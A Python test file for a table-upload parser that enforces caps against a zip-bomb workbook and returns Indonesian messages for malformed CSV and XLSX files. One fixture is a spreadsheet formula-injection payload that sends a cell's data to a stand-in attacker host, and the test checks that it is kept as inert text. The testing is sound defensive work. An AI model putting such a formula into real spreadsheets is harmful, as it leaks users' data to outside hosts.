"""Reading uploaded tables within caps: every bad file gets a message for the uploader, quickly, and nothing
is unpacked beyond the caps (issue #17: a 225 KB workbook of 88 MB shared strings, a damaged workbook)."""

import codecs
import io
import time
import zipfile
from dataclasses import replace

import pytest
from openpyxl import Workbook

from core.tabular import Limits, TableError, parse_table, precheck
from tests.core.workbooks import shared_strings_bomb, with_content_types

LIMITS = Limits(max_bytes=5 * 1024 * 1024, max_rows=100, max_columns=5, max_cell_chars=50)


def workbook(*rows: list[object]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def refusal(data: bytes, limits: Limits = LIMITS) -> str:
    with pytest.raises(TableError) as caught:
        parse_table(data, limits)
    return str(caught.value)


def test_the_shared_strings_bomb_is_refused_from_the_zip_directory_in_milliseconds():
    bomb = shared_strings_bomb()
    started = time.monotonic()

    message = refusal(bomb, Limits.from_settings())

    unpacked = sum(info.file_size for info in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert (len(bomb) // 1000, unpacked // 1_000_000, time.monotonic() - started < 0.5) == (268, 89, True)
    assert message == "Buku kerja terlalu besar setelah dibuka. Pecah menjadi beberapa berkas atau simpan sebagai CSV."


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            with_content_types(workbook(["code"], ["A"]), b"<Types><Override"),
            "Buku kerja rusak (daftar bagiannya tidak dapat dibaca). Simpan ulang dari Excel.",
        ),
        (
            with_content_types(workbook(["code"], ["A"]), b"<Types/>"),
            "Berkas bukan buku kerja XLSX yang sah. Simpan ulang dari Excel sebagai .xlsx atau CSV.",
        ),
        (
            b"PK\x03\x04 not really a zip",
            "Berkas bukan buku kerja XLSX yang sah. Simpan ulang dari Excel sebagai .xlsx atau CSV.",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "Ini berkas Excel lama (.xls). Simpan sebagai .xlsx atau CSV UTF-8, lalu unggah lagi.",
        ),
        (b"%PDF-1.7\x00\x01\x02", "Berkas bukan CSV maupun XLSX. Unggah berkas .csv (UTF-8) atau .xlsx."),
        (
            b"\xff\xfe" + "kode\n".encode("utf-16-le")[:-1],
            "Karakter dalam berkas tidak terbaca. Simpan sebagai 'CSV UTF-8'.",
        ),
        (
            b"code\n" + b'"' + b"a" * 200_000 + b'"\n',
            "Berkas bukan tabel CSV yang sah. Simpan ulang sebagai 'CSV UTF-8'.",
        ),
        (b"code,name\nA," + b"b" * 51 + b"\n", "Baris 2 memiliki sel yang lebih panjang dari 50 karakter."),
        (b"a,b,c,d,e,f\n1,2,3,4,5,6\n", "Berkas memiliki lebih dari 5 kolom. Simpan hanya kolom dari templat."),
        (
            workbook(["a", "b", "c", "d", "e", "f"]),
            "Berkas memiliki lebih dari 5 kolom. Simpan hanya kolom dari templat.",
        ),
    ],
    ids=[
        "broken-content-types",
        "no-workbook-part",
        "not-a-zip",
        "old-xls",
        "pdf",
        "bad-utf16",
        "csv-field-over-csv-limit",
        "cell-too-long",
        "csv-too-wide",
        "xlsx-too-wide",
    ],
)
def test_every_malformed_file_gets_a_message(data, message):
    assert refusal(data) == message


def test_a_table_that_takes_longer_than_its_time_budget_is_refused():
    assert refusal(b"code\nA\n", replace(LIMITS, seconds=-1)) == (
        "Membaca berkas memakan waktu terlalu lama. Pecah menjadi beberapa berkas."
    )


def test_the_precheck_gives_the_size_the_parse_will_work_on():
    data = workbook(["code"], ["A"])

    assert (precheck(b"code\nA\n", LIMITS), precheck(data, LIMITS) > len(data)) == (7, True)


def test_excel_unicode_text_and_formula_like_text_are_read_as_text():
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    text = "code\tname\nA\t" + formula + "\nB\t@SUM(1)\n"

    table = parse_table(codecs.BOM_UTF16_LE + text.encode("utf-16-le"), LIMITS)

    assert (table.headers, table.rows) == (
        ["code", "name"],
        [(2, {"code": "A", "name": formula}), (3, {"code": "B", "name": "@SUM(1)"})],
    )
